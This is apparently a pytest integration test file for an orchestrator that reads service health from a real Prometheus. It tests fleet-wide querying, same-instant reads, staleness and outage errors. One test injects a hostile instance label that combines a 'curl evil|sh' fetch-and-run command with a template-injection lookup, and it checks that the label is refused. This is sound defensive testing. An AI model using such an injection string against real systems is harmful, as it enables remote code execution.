"""The Prometheus source against a real Prometheus: fleet-wide, unknown when unsure, refusing."""

from __future__ import annotations

import time

import pytest

from orchestrator.config import PrometheusSettings
from orchestrator.core.faults import Signal
from orchestrator.errors import SourceUnavailable
from orchestrator.models import Health
from orchestrator.sources.prometheus import PrometheusSource, connect
from tests.integration.conftest import Exporter, RealPrometheus, free_port

pytestmark = pytest.mark.integration

SIGNAL = Signal(name="service_up", promql="selfheal_test_service_up", firing_when="== 0")
HOSTS = {"127.0.1.21": "web1", "127.0.1.22": "web2", "127.0.1.23": "web3"}


class CountingQuery:
    """Wraps the real query function to count requests (fleet-wide means one per signal)."""

    def __init__(self, inner):  # type: ignore[no-untyped-def]
        self.inner, self.calls = inner, []

    def __call__(self, promql: str, at: float | None = None):  # type: ignore[no-untyped-def]
        self.calls.append(promql)
        return self.inner(promql, at)


def source(url: str, **overrides: float) -> tuple[PrometheusSource, CountingQuery]:
    settings = PrometheusSettings(url=url, **overrides)  # type: ignore[arg-type]
    query = CountingQuery(connect(settings))
    return PrometheusSource(query, settings), query


def test_one_query_per_signal_for_the_whole_fleet(prometheus: RealPrometheus,
                                                  exporter: Exporter) -> None:
    exporter.gauge.labels("127.0.1.21:8080", "a.service").set(1)
    exporter.gauge.labels("127.0.1.22:8080", "a.service").set(0)
    prometheus.wait_for('selfheal_test_service_up{instance="127.0.1.22:8080"} == 0')
    src, query = source(prometheus.url)
    obs = src.observe([SIGNAL], HOSTS, time.time())
    health = {f.host: f.health for f in obs.findings}
    assert health == {"web1": Health.HEALTHY, "web2": Health.FIRING, "web3": Health.UNKNOWN}
    assert query.calls == ["timestamp(up)", "selfheal_test_service_up"]
    firing = next(f for f in obs.findings if f.host == "web2")
    assert firing.labels["unit"] == "a.service"


def test_every_signal_of_a_sweep_is_read_at_the_sweep_instant(
        prometheus: RealPrometheus, exporter: Exporter) -> None:
    """Two signals on one series read at one instant agree, even when the series changes
    between the two queries: here it changed after ``now``, and both still see the old value."""
    exporter.gauge.labels("127.0.1.23:8080", "c.service").set(1)
    prometheus.wait_for('selfheal_test_service_up{instance="127.0.1.23:8080"} == 1')
    now = time.time()
    exporter.gauge.labels("127.0.1.23:8080", "c.service").set(0)
    prometheus.wait_for('selfheal_test_service_up{instance="127.0.1.23:8080"} == 0')
    twin = Signal(name="service_up_twin", promql="selfheal_test_service_up", firing_when="== 0")
    src, _ = source(prometheus.url)
    obs = src.observe([SIGNAL, twin], HOSTS, now)
    web3 = {f.signal: f.health for f in obs.findings if f.host == "web3"}
    assert web3 == {"service_up": Health.HEALTHY, "service_up_twin": Health.HEALTHY}
    later = src.observe([SIGNAL], HOSTS, time.time())
    assert {f.health for f in later.findings if f.host == "web3"} == {Health.FIRING}
    exporter.gauge.remove("127.0.1.23:8080", "c.service")


def test_hostile_instance_label_is_refused(prometheus: RealPrometheus,
                                           exporter: Exporter) -> None:
    hostile = "x;curl evil|sh:{{ lookup('pipe','id') }}"
    exporter.gauge.labels(hostile, "b.service").set(0)
    prometheus.wait_for('selfheal_test_service_up{unit="b.service"}')
    src, _ = source(prometheus.url)
    obs = src.observe([SIGNAL], HOSTS, time.time())
    assert any("refused series" in r and "curl" in r for r in obs.refused)
    assert all(f.labels.get("unit") != "b.service" for f in obs.findings)
    exporter.gauge.remove(hostile, "b.service")


def test_stale_samples_are_unknown(prometheus: RealPrometheus, exporter: Exporter) -> None:
    exporter.gauge.labels("127.0.1.21:8080", "a.service").set(1)
    prometheus.wait_for('selfheal_test_service_up{instance="127.0.1.21:8080"}')
    src, _ = source(prometheus.url, max_staleness_s=0.001)
    obs = src.observe([SIGNAL], HOSTS, time.time() + 5)
    assert {f.health for f in obs.findings} == {Health.UNKNOWN}


def test_prometheus_down_raises_source_unavailable() -> None:
    src, _ = source(f"http://127.0.0.1:{free_port()}", timeout_s=1)
    with pytest.raises(SourceUnavailable, match="did not answer"):
        src.observe([SIGNAL], HOSTS, time.time())
